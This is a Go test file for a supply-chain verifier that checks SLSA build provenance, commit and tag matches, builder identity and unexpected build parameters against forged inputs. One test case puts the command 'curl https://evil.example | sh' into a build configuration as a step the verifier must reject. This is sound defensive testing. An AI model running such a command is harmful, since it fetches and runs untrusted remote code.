package evidence_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/sallyport-dev/sallyport/evidence"
	"github.com/sallyport-dev/sallyport/evidence/predicate"
	"github.com/sallyport-dev/sallyport/release"
)

const (
	workflowType = "https://actions.github.io/buildtypes/workflow/v1"
	hosted       = "https://github.com/actions/runner/github-hosted"
	shopSource   = "https://github.com/acme/shop"
	otherCommit  = "1111111111111111111111111111111111111111"
)

var shopCommit = string(shop().Commit)

// workflow is provenance of a workflow of GitHub at a ref.
func workflow(ref, commit string) predicate.Provenance {
	return predicate.Provenance{
		BuildDefinition: predicate.BuildDefinition{
			BuildType:          workflowType,
			ExternalParameters: json.RawMessage(fmt.Sprintf(`{"workflow":{"ref":%q,"repository":%q,"path":".github/workflows/release.yml"}}`, ref, shopSource)),
			ResolvedDependencies: []predicate.Resource{
				{URI: "git+" + shopSource + "@" + ref, Digest: map[string]string{"gitCommit": commit}},
				{URI: "git+https://github.com/acme/other@refs/heads/main", Digest: map[string]string{"gitCommit": shopCommit}},
			},
		},
		RunDetails: predicate.RunDetails{Builder: predicate.Builder{ID: hosted}, Metadata: predicate.BuildMetadata{InvocationID: "https://github.com/acme/shop/actions/runs/7/attempts/1"}},
	}
}

func parameters(p predicate.Provenance, raw string) predicate.Provenance {
	p.BuildDefinition.ExternalParameters = json.RawMessage(raw)
	return p
}

// generator is provenance v0.2.
func generator(uri, commit string) predicate.ProvenanceV02 {
	p := predicate.ProvenanceV02{Builder: predicate.BuilderV02{ID: hosted}, BuildType: "https://github.com/slsa-framework/slsa-github-generator/generic@v1"}
	p.Invocation.ConfigSource = predicate.ConfigSourceV02{URI: uri, Digest: map[string]string{"sha1": commit}, EntryPoint: ".github/workflows/release.yml"}
	p.Invocation.Environment = json.RawMessage(`{"github_event_name":"push"}`)
	p.Invocation.Parameters = json.RawMessage(`{}`)
	p.Materials = []predicate.MaterialV02{{URI: uri, Digest: map[string]string{"sha1": commit}}, {URI: "git+https://example.com/dep", Digest: map[string]string{"gitCommit": shopCommit}}}
	return p
}

func TestCommitMatches(t *testing.T) {
	t.Parallel()
	ci := service("ci")
	plain, v1 := evidence.CommitMatches{}, evidence.CommitMatches{Tag: "v1.4.0", TagCommit: shop().Commit}
	noCommit := provenanceOK
	noCommit.BuildDefinition.ResolvedDependencies = nil
	none := workflow("refs/tags/v1.4.0", shopCommit)
	none.BuildDefinition.ResolvedDependencies = nil
	two := workflow("refs/tags/v1.4.0", shopCommit)
	two.BuildDefinition.ResolvedDependencies = append(two.BuildDefinition.ResolvedDependencies, predicate.Resource{URI: "git+" + shopSource + "@refs/tags/v1.4.0", Digest: map[string]string{"gitCommit": otherCommit}})
	variant := parameters(workflow("refs/heads/main", shopCommit), `{"workflow":{"ref":"refs/heads/main","repository":"`+shopSource+`"},"Workflow":{"ref":"refs/tags/v1.4.0"}}`)
	v01 := predicate.ProvenanceV01{Builder: predicate.BuilderV02{ID: hosted}, Materials: []predicate.MaterialV02{{URI: "git+https://example.com/shop", Digest: map[string]string{"gitCommit": shopCommit}}}}
	subject := func(commit string) evidence.Verified {
		st := statement(t, shop(), passed()).Bytes()
		return ci.says(t, []byte(strings.Replace(string(st), `"subject":[`, `"subject":[{"name":"source","digest":{"gitCommit":"`+commit+`"}},`, 1)))
	}
	list := parameters(workflow("refs/tags/v1.4.0", otherCommit), `{"workflow":{"ref":"refs/tags/v1.4.0","repository":["`+shopSource+`"]}}`)
	gitlab := generator("https://gitlab.com/acme/shop", "")
	gitlab.Invocation.ConfigSource.Digest = map[string]string{"sha256": shopCommit}
	gitlab.Materials = nil
	bundle := generator("registry.example.com/pipelines@sha256:"+strings.Repeat("0", 64), "")
	bundle.Invocation.ConfigSource.Digest = map[string]string{"sha256": strings.Repeat("0", 64)}
	bundle.Materials = bundle.Materials[1:]
	disagrees := generator("git+https://github.com/acme/shop@refs/heads/main", shopCommit)
	disagrees.Invocation.ConfigSource.Digest = map[string]string{"sha1": shopCommit, "gitCommit": otherCommit}
	ofTests := evidence.CommitMatches{Types: []string{predicate.TypeTestResult}}
	for _, c := range []struct {
		name string
		rule evidence.CommitMatches
		set  set
		want release.Verdict
		code string
	}{
		{"named among others", plain, set{ci.of(t, shop(), provenanceOK)}, allow, ""},
		{"older provenance", plain, set{ci.of(t, shop(), v01)}, allow, ""},
		{"workflow", plain, set{ci.of(t, shop(), workflow("refs/heads/main", shopCommit))}, allow, ""},
		{"generator", plain, set{ci.of(t, shop(), generator("git+https://github.com/acme/shop@refs/heads/main", shopCommit))}, allow, ""},
		{"tag of a workflow", v1, set{ci.of(t, shop(), workflow("refs/tags/v1.4.0", shopCommit))}, allow, ""},
		{"tag of a generator", v1, set{ci.of(t, shop(), generator("git+https://github.com/acme/shop@refs/tags/v1.4.0", shopCommit))}, allow, ""},
		{"no ref is told", v1, set{ci.of(t, shop(), provenanceOK)}, allow, ""},
		{"tests that name the commit", ofTests, set{subject(shopCommit)}, allow, ""},
		{"one of two names it", plain, set{ci.of(t, shop(), noCommit), ci.of(t, shop(), provenanceOK)}, allow, ""},

		{"GitLab, which tells no ref", v1, set{ci.of(t, shop(), gitlab)}, allow, ""},
		{"a configuration that is in no repository", plain, set{ci.of(t, shop(), bundle)}, allow, ""},

		{"nothing", plain, nil, hold, evidence.CodeMissing},
		{"a workflow of no repository, and a dependency has the commit", plain, set{ci.of(t, shop(), list)}, hold, evidence.CodeNoCommit},
		{"a source without git+, and a material has the commit", plain, set{ci.of(t, shop(), generator("https://github.com/evil/shop.git", otherCommit))}, hold, evidence.CodeOtherCommit},
		{"a source at no git URI, and a material has the commit", plain, set{ci.of(t, shop(), generator("https://github.com/evil/shop", otherCommit))}, hold, evidence.CodeOtherCommit},
		{"a source of another scheme, and a material has the commit", plain, set{ci.of(t, shop(), generator("git://github.com/evil/shop", otherCommit))}, hold, evidence.CodeOtherCommit},
		{"a source at no URI, and a material has the commit", plain, set{ci.of(t, shop(), generator("git+github.com/evil/shop", otherCommit))}, hold, evidence.CodeOtherCommit},
		{"a source as scp has it, and a material has the commit", plain, set{ci.of(t, shop(), generator("git@github.com:evil/shop.git", otherCommit))}, hold, evidence.CodeOtherCommit},
		{"the source's two commits differ", plain, set{ci.of(t, shop(), disagrees)}, hold, evidence.CodeNoCommit},
		{"no commit", plain, set{ci.of(t, shop(), noCommit)}, hold, evidence.CodeNoCommit},
		{"a dependency has the commit, the source another", plain, set{ci.of(t, shop(), workflow("refs/heads/main", otherCommit))}, hold, evidence.CodeOtherCommit},
		{"a material has the commit, the source another", plain, set{ci.of(t, shop(), generator("git+https://github.com/acme/shop@refs/heads/main", otherCommit))}, hold, evidence.CodeOtherCommit},
		{"the source's commit is not told", plain, set{ci.of(t, shop(), none)}, hold, evidence.CodeNoCommit},
		{"the source has two commits", plain, set{ci.of(t, shop(), two)}, hold, evidence.CodeNoCommit},
		{"a branch, not the tag", v1, set{ci.of(t, shop(), workflow("refs/heads/main", shopCommit))}, hold, evidence.CodeOtherRef},
		{"a branch named as the tag", v1, set{ci.of(t, shop(), workflow("refs/heads/v1.4.0", shopCommit))}, hold, evidence.CodeOtherRef},
		{"the tag's name alone", v1, set{ci.of(t, shop(), workflow("v1.4.0", shopCommit))}, hold, evidence.CodeOtherRef},
		{"a branch, without git+", v1, set{ci.of(t, shop(), generator("https://github.com/acme/shop.git@refs/heads/main", shopCommit))}, hold, evidence.CodeOtherRef},
		{"another tag", v1, set{ci.of(t, shop(), generator("git+https://github.com/acme/shop@refs/tags/v1.4.0-rc1", shopCommit))}, hold, evidence.CodeOtherRef},
		{"no ref where there should be one", v1, set{ci.of(t, shop(), generator("git+https://github.com/acme/shop", shopCommit))}, hold, evidence.CodeOtherRef},
		{"a variant of the name", v1, set{ci.of(t, shop(), variant)}, hold, evidence.CodeOtherRef},
		{"tests that name none", ofTests, set{ci.of(t, shop(), passed())}, hold, evidence.CodeNoCommit},
		{"tests that name another", ofTests, set{subject(otherCommit)}, hold, evidence.CodeNotWhole},
		{"not about the release", plain, set{ci.says(t, []byte(strings.Replace(string(statement(t, shop(), provenanceOK).Bytes()), shop().Artifacts[0].Digest.Hex(), strings.Repeat("0", 64), 1)))}, hold, evidence.CodeNotWhole},
		{"the tag points elsewhere", evidence.CommitMatches{Tag: "v1.4.0", TagCommit: otherCommit}, set{ci.of(t, shop(), workflow("refs/tags/v1.4.0", shopCommit))}, deny, evidence.CodeOtherTag},
	} {
		t.Run(c.name, func(t *testing.T) {
			d := decide(t, ruled(c.rule), c.set)
			require.Equal(t, c.want, d.Verdict, "%v", d.Reasons)
			requireWhy(t, d, c.code)
		})
	}
	// It holds for requirements too.
	q := question(needBuild)
	q.Rules = []evidence.Rule{plain}
	d := decide(t, q, set{ci.of(t, shop(), noCommit)})
	require.Equal(t, evidence.StatusMissing, d.Results[0].Status)
}

func requireWhy(t testing.TB, d evidence.Decision, code string) {
	t.Helper()
	if code == "" {
		return
	}
	var codes []string
	for _, r := range d.Reasons {
		codes = append(codes, r.Code)
		require.NotContains(t, r.Text, "does not count", "each code has a sentence")
	}
	require.Contains(t, codes, code)
}

// slsaRule trusts the hosted runner through ci with level 2, and through the generator
// with 3.
func slsaRule(level int) evidence.SLSA {
	return evidence.SLSA{
		Level: level,
		Builders: []evidence.Builder{
			{ID: hosted, By: []evidence.Principal{person("ci")}, Level: 2},
			{ID: hosted, By: []evidence.Principal{person("generator")}, Level: 3},
		},
		Builds: []evidence.Build{
			{Type: workflowType, Source: shopSource, Parameters: []evidence.Parameter{{Pointer: "/workflow/path", JSON: `".github/workflows/release.yml"`}}, Ignored: []string{"/workflow/ref"}},
			{Type: "https://github.com/slsa-framework/slsa-github-generator/generic@v1", Source: shopSource,
				Parameters: []evidence.Parameter{{Pointer: "/configSource/entryPoint", JSON: `".github/workflows/release.yml"`}}, Ignored: []string{"/configSource/uri", "/configSource/digest"}},
			{Type: "https://example.com/make/v1"},
		},
	}
}

func TestSLSA(t *testing.T) {
	t.Parallel()
	ci, gen := service("ci"), service("generator")
	ok := workflow("refs/heads/main", shopCommit)
	builder := func(id string) predicate.Provenance {
		p := ok
		p.RunDetails.Builder.ID = id
		return p
	}
	generated := generator("git+https://github.com/acme/shop@refs/heads/main", shopCommit)
	with := generated
	with.Invocation.Parameters = json.RawMessage(`{"compile":true}`)
	other := generator("git+https://github.com/evil/shop@refs/heads/main", shopCommit)
	inline := func(config, uri string) predicate.ProvenanceV02 {
		p := predicate.ProvenanceV02{Builder: predicate.BuilderV02{ID: hosted}, BuildType: "https://example.com/make/v1", BuildConfig: json.RawMessage(config)}
		p.Invocation.ConfigSource.URI = uri
		return p
	}
	typed := ok
	typed.BuildDefinition.BuildType = "https://example.com/other"
	for _, c := range []struct {
		name   string
		level  int
		set    set
		levels []string
		code   string
	}{
		{"level 1 by a builder of level 2", 1, set{ci.of(t, shop(), ok)}, []string{"SLSA_BUILD_LEVEL_2"}, ""},
		{"level 2", 2, set{ci.of(t, shop(), ok)}, []string{"SLSA_BUILD_LEVEL_2"}, ""},
		{"level 3", 3, set{gen.of(t, shop(), ok)}, []string{"SLSA_BUILD_LEVEL_3"}, ""},
		{"the highest of two", 1, set{gen.of(t, shop(), ok), ci.of(t, shop(), ok)}, []string{"SLSA_BUILD_LEVEL_3"}, ""},
		{"v0.2", 3, set{gen.of(t, shop(), generated)}, []string{"SLSA_BUILD_LEVEL_3"}, ""},
		{"no parameters", 2, set{ci.of(t, shop(), func() predicate.Provenance { p := provenanceOK; p.RunDetails.Builder.ID = hosted; return p }())}, []string{"SLSA_BUILD_LEVEL_2"}, ""},
		{"null parameters", 2, set{ci.of(t, shop(), func() predicate.Provenance {
			p := parameters(provenanceOK, "{}")
			p.RunDetails.Builder.ID = hosted
			return p
		}())}, []string{"SLSA_BUILD_LEVEL_2"}, ""},

		{"v0.2 without parameters", 1, set{ci.of(t, shop(), inline("{}", ""))}, []string{"SLSA_BUILD_LEVEL_2"}, ""},

		{"nothing", 1, nil, nil, evidence.CodeMissing},
		{"steps that come from nowhere, v0.2", 1, set{ci.of(t, shop(), inline(`{"steps":["curl https://evil.example | sh"]}`, ""))}, nil, evidence.CodeParameters},
		{"steps from a place that nobody expects, v0.2", 1, set{ci.of(t, shop(), inline(`{"steps":[]}`, "git+https://github.com/evil/shop"))}, nil, evidence.CodeParameters},
		{"too low", 3, set{ci.of(t, shop(), ok)}, nil, evidence.CodeLevel},
		{"somebody else writes the builder's id", 1, set{service("mallory").of(t, shop(), ok)}, nil, evidence.CodeBuilder},
		{"another builder", 1, set{ci.of(t, shop(), builder(hosted+"/"))}, nil, evidence.CodeBuilder},
		{"another case", 1, set{ci.of(t, shop(), builder(strings.ToUpper(hosted)))}, nil, evidence.CodeBuilder},
		{"another build type", 1, set{ci.of(t, shop(), typed)}, nil, evidence.CodeBuildType},
		{"older provenance", 1, set{ci.of(t, shop(), predicate.ProvenanceV01{Builder: predicate.BuilderV02{ID: hosted}})}, nil, evidence.CodeBuildType},
		{"another repository", 1, set{ci.of(t, shop(), parameters(ok, `{"workflow":{"ref":"refs/heads/main","repository":"https://github.com/acme/shop2","path":".github/workflows/release.yml"}}`))}, nil, evidence.CodeSource},
		{"no repository", 1, set{ci.of(t, shop(), parameters(ok, `{"workflow":{"path":".github/workflows/release.yml"}}`))}, nil, evidence.CodeSource},
		{"a repository of another kind", 1, set{ci.of(t, shop(), parameters(ok, `{"workflow":{"repository":["https://github.com/acme/shop"],"path":".github/workflows/release.yml"}}`))}, nil, evidence.CodeSource},
		{"another repository, v0.2", 1, set{gen.of(t, shop(), other)}, nil, evidence.CodeSource},
		{"another path", 1, set{ci.of(t, shop(), parameters(ok, `{"workflow":{"repository":"`+shopSource+`","path":"evil.yml"}}`))}, nil, evidence.CodeParameters},
		{"no path", 1, set{ci.of(t, shop(), parameters(ok, `{"workflow":{"repository":"`+shopSource+`"}}`))}, nil, evidence.CodeParameters},
		{"an extra parameter", 1, set{ci.of(t, shop(), parameters(ok, `{"debug":true,"workflow":{"repository":"`+shopSource+`","path":".github/workflows/release.yml"}}`))}, nil, evidence.CodeParameters},
		{"an extra parameter inside", 1, set{ci.of(t, shop(), parameters(ok, `{"workflow":{"repository":"`+shopSource+`","path":".github/workflows/release.yml","Path":"x"}}`))}, nil, evidence.CodeParameters},
		{"an extra parameter, v0.2", 1, set{gen.of(t, shop(), with)}, nil, evidence.CodeParameters},
		{"a parameter of a build without any", 1, set{ci.of(t, shop(), func() predicate.Provenance {
			p := parameters(provenanceOK, `{"x":1}`)
			p.RunDetails.Builder.ID = hosted
			return p
		}())}, nil, evidence.CodeParameters},
	} {
		t.Run(c.name, func(t *testing.T) {
			d := decide(t, ruled(slsaRule(c.level)), c.set)
			require.Equal(t, c.levels, d.Results[0].Levels)
			require.Equal(t, c.levels != nil, d.Verdict.Allowed(), "%v", d.Reasons)
			requireWhy(t, d, c.code)
		})
	}
}

// The reason names the parameter, and never what stands there.
func TestSLSANamesTheParameter(t *testing.T) {
	t.Parallel()
	const path = `"path":".github/workflows/release.yml"`
	for raw, want := range map[string]string{
		`{"debug":"secret","workflow":{"repository":"` + shopSource + `",` + path + `}}`:       `nothing is expected at "/debug"`,
		`{"workflow":{"repository":"` + shopSource + `","path":"secret"}}`:                     `another value than is expected stands at "/workflow/path"`,
		`{"workflow":{"repository":"` + shopSource + `","path":1e9999999999}}`:                 `another value than is expected stands at "/workflow/path": the exponent`,
		`{"workflow":{"repository":"` + shopSource + `"}}`:                                     `nothing stands at "/workflow/path"`,
		`{"workflow":{"repository":"` + shopSource + `",` + path + `,"a/b\n":{"c":"secret"}}}`: `nothing is expected at "/workflow/a~1b\n"`,
		`{"` + strings.Repeat("x", 5000) + `":1}`:                                              `(101 bytes)`,
	} {
		raw = strings.ReplaceAll(raw, `\\n`, `\n`)
		st := string(statement(t, shop(), parameters(workflow("refs/heads/main", shopCommit), `{"here":0}`)).Bytes())
		rule := slsaRule(1)
		rule.Builds = append(rule.Builds, evidence.Build{Type: workflowType, Source: "https://github.com/acme/other"})
		if strings.Contains(raw, "xxx") {
			rule.Builds[0].Source = ""
		}
		d := decide(t, ruled(rule), set{service("ci").says(t, []byte(strings.Replace(st, `{"here":0}`, raw, 1)))})
		require.Equal(t, hold, d.Verdict)
		text := d.Reasons[1].Text
		require.Equal(t, evidence.CodeParameters, d.Reasons[1].Code, text)
		require.Contains(t, text, want)
		require.NotContains(t, text, "secret")
		require.NotContains(t, text, "\n")
		require.Less(t, len(text), 300)
	}
}

// Two rules of SLSA hold for one and the same statement, and a requirement is met by no
// other.
func TestSLSARulesAreMetTogether(t *testing.T) {
	t.Parallel()
	q := question(needBuild)
	q.Rules = []evidence.Rule{slsaRule(2), slsaRule(3)}
	ok := workflow("refs/heads/main", shopCommit)
	for who, want := range map[string]release.Verdict{"ci": hold, "generator": allow, "mallory": hold} {
		d := decide(t, q, set{service(who).of(t, shop(), ok)})
		require.Equal(t, want, d.Verdict, who)
		require.Equal(t, want == allow, d.Results[0].Status == evidence.StatusMet, who)
	}
}

func TestBuildRulesThatAreRefused(t *testing.T) {
	t.Parallel()
	slsa := func(change func(r *evidence.SLSA)) evidence.SLSA {
		r := slsaRule(2)
		change(&r)
		return r
	}
	for name, r := range map[string]evidence.Rule{
		"zero":                nil,
		"level 0":             slsa(func(r *evidence.SLSA) { r.Level = 0 }),
		"level 4":             slsa(func(r *evidence.SLSA) { r.Level = 4 }),
		"out of reach":        slsa(func(r *evidence.SLSA) { r.Level, r.Builders = 3, r.Builders[:1] }),
		"no builder":          slsa(func(r *evidence.SLSA) { r.Builders = nil }),
		"no builder id":       slsa(func(r *evidence.SLSA) { r.Builders[0].ID = "" }),
		"no signer":           slsa(func(r *evidence.SLSA) { r.Builders[0].By = nil }),
		"nobody signs":        slsa(func(r *evidence.SLSA) { r.Builders[0].By = []evidence.Principal{{}} }),
		"builder of no level": slsa(func(r *evidence.SLSA) { r.Builders[0].Level = 0 }),
		"no build":            slsa(func(r *evidence.SLSA) { r.Builds = nil }),
		"no build type":       slsa(func(r *evidence.SLSA) { r.Builds[0].Type = "" }),
		"no JSON":             slsa(func(r *evidence.SLSA) { r.Builds[0].Parameters[0].JSON = "main" }),
		"no pointer":          slsa(func(r *evidence.SLSA) { r.Builds[0].Parameters[0].Pointer = "workflow" }),
		"ignored twice over":  slsa(func(r *evidence.SLSA) { r.Builds[0].Ignored = []string{"/workflow"} }),
		"all ignored":         slsa(func(r *evidence.SLSA) { r.Builds[0].Ignored = []string{""} }),
		"twice": slsa(func(r *evidence.SLSA) {
			r.Builds[0].Parameters = append(r.Builds[0].Parameters, r.Builds[0].Parameters[0])
		}),
		"source with git+":   slsa(func(r *evidence.SLSA) { r.Builds[0].Source = "git+" + shopSource }),
		"source with a ref":  slsa(func(r *evidence.SLSA) { r.Builds[0].Source = shopSource + "@refs/heads/main" }),
		"expected, ignored":  slsa(func(r *evidence.SLSA) { r.Builds[0].Ignored = []string{"/workflow/path"} }),
		"not UTF-8":          slsa(func(r *evidence.SLSA) { r.Builds[0].Source = "\xff" }),
		"tag without commit": evidence.CommitMatches{Tag: "v1"},
		"commit without tag": evidence.CommitMatches{TagCommit: shop().Commit},
		"tag as a ref":       evidence.CommitMatches{Tag: "refs/tags/v1", TagCommit: shop().Commit},
		"no commit":          evidence.CommitMatches{Tag: "v1", TagCommit: "main"},
		"no type":            evidence.CommitMatches{Types: []string{""}},
		"approvals":          evidence.CommitMatches{Types: []string{predicate.TypeApproval}},
	} {
		if name == "zero" {
			r = evidence.SLSA{}
		}
		_, err := evidence.Decide(ruled(r), nil, noon)
		require.ErrorContains(t, err, "rule 0", name)
	}
}
